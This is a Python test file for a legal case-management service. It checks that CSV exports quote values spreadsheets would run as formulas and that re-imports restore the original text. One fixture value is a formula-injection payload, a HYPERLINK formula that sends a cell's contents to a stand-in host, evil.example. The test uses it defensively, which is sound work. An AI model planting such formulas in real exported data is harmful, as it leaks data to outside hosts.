"""Text that a spreadsheet would run as a formula leaves in no CSV of the full export as a
formula, and the import files read back exactly what was written.

Before this, report CSVs quoted `= + - @` but the full export's tables and import files
carried them raw: a name like `=HYPERLINK(...)` ran when an office opened the export."""

import csv
import io
import os
import re
from collections.abc import AsyncIterator
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from sqlalchemy.ext.asyncio import async_sessionmaker
from sqlmodel import select
from sqlmodel.ext.asyncio.session import AsyncSession

from domain.awards import Award, HeadKind, PaymentReceived
from domain.cases import Case, Survivor
from domain.stages import CaseKind, CourtLevel, JudgmentOutcome
from service.amounts import Shillings
from service.database import make_engine, make_sessionmaker, scratch_database
from service.imports.layouts import ImportKind
from service.migrate import upgrade
from service.spreadsheet_cells import FORMULA_SIGNS
from service.usecases.awards.entries import PaymentIn
from service.usecases.awards.orders import AwardOrder, HeadIn, record_award
from service.usecases.awards.payments import receive_payment
from service.usecases.cases.court_track import Step, record_step
from service.usecases.cases.register import open_case
from service.usecases.exporting.bundle import export_everything
from service.usecases.families.survivors import register_survivor
from service.usecases.importing.request import ImportRequest
from service.usecases.importing.running import ImportRules, run_import
from tests.conftest import empty_tables
from tests.factories import RULES, TEST_ACTOR

Sessions = async_sessionmaker[AsyncSession]
NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
TITLE = "+254 712 000 111 v Attorney General"
RESPONDENTS = ["@Attorney General", "'=already quoted", "-Inspector General"]
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture(scope="module")
def restore_url(admin_dsn: str) -> str:
    url = scratch_database(admin_dsn, f"haki_test_{os.getpid()}_formulas")
    upgrade(url)
    return url


@pytest.fixture
async def empty_database(restore_url: str) -> AsyncIterator[Sessions]:
    engine = make_engine(restore_url, pool_size=2)
    await empty_tables(engine)
    yield make_sessionmaker(engine)
    await engine.dispose()


async def a_case_of_formulas(sessions: Sessions) -> None:
    async with sessions() as session:
        survivor = await register_survivor(session, TEST_ACTOR, full_name=NAME)
    async with sessions() as session:
        case = await open_case(
            session, TEST_ACTOR, reference="-HAKI/1", title=TITLE, kind=CaseKind.CIVIL_CLAIM,
            court_level=CourtLevel.HIGH_COURT, court_station="Nyeri", lead_counsel="+Counsel",
            claimants=[survivor.code], respondents=RESPONDENTS, opened_on=date(2023, 1, 2),
        )  # fmt: skip
    steps: list[tuple[str, date, dict[str, Any]]] = [
        ("file", date(2023, 1, 9), {"court_number": "Petition E9 of 2023"}),
        ("exchange_pleadings", date(2023, 2, 1), {}),
        ("set_down_for_hearing", date(2023, 6, 1), {}),
        ("reserve_judgment", date(2023, 10, 2), {}),
        ("deliver_judgment", date(2024, 1, 10), {"outcome": JudgmentOutcome.ALLOWED}),
    ]
    for version, (trigger, on, facts) in enumerate(steps, start=1):
        async with sessions() as session:
            await record_step(
                session, TEST_ACTOR, case.id,
                Step(trigger=trigger, version=version, occurred_on=on, **facts),
            )  # fmt: skip
    async with sessions() as session:
        order = AwardOrder(
            claimant=survivor.code, respondent=RESPONDENTS[0],
            heads=[HeadIn(HeadKind.GENERAL, Decimal("100000"), "judgment")],
            rate_as_ordered="=12% p.a.", rate_percent=Decimal("12"),
        )  # fmt: skip
        award = await record_award(session, TEST_ACTOR, case.id, order, RULES)
    async with sessions() as session:
        paid = PaymentIn(date(2024, 6, 1), Shillings("1000"), "+Treasury", "-TR/1")
        await receive_payment(session, TEST_ACTOR, award.id, paid, RULES)


async def texts(sessions: Sessions) -> dict[str, Any]:
    async with sessions() as session:
        case = (await session.exec(select(Case))).one()
        award = (await session.exec(select(Award))).one()
        payment = (await session.exec(select(PaymentReceived))).one()
        name = (await session.exec(select(Survivor.full_name))).one()
    return {
        "name": name,
        "case": (case.reference, case.title, case.lead_counsel, case.respondents),
        "award": (award.respondent, award.rate_as_ordered),
        "payment": (payment.payer, payment.reference),
    }


def would_run(value: str) -> bool:
    return value[:1] in FORMULA_SIGNS and not NUMBER.fullmatch(value)


async def test_no_csv_of_the_export_holds_a_formula_and_the_import_reads_it_back(
    sessions: Sessions, empty_database: Sessions
) -> None:
    await a_case_of_formulas(sessions)
    files = await export_everything(sessions, TEST_ACTOR, with_personal_data=True)
    written = {path: body for path, body in files.items() if path.endswith(".csv")}
    assert {"tables/survivors.csv", "tables/cases.csv", "import/cases.csv"} <= set(written)
    for path, body in written.items():
        for row in csv.reader(io.StringIO(body.decode(), newline="")):
            assert not [value for value in row if would_run(value)], (path, row)
    assert f"'{NAME}" in written["tables/survivors.csv"].decode().replace('""', '"')
    for kind in ImportKind:
        report = await run_import(
            empty_database, TEST_ACTOR,
            ImportRequest(kind, files[f"import/{kind}.csv"], f"{kind}.csv", False),
            rules=ImportRules(),
        )  # fmt: skip
        assert report.written, (kind, report.errors[:3])
    assert await texts(empty_database) == await texts(sessions)
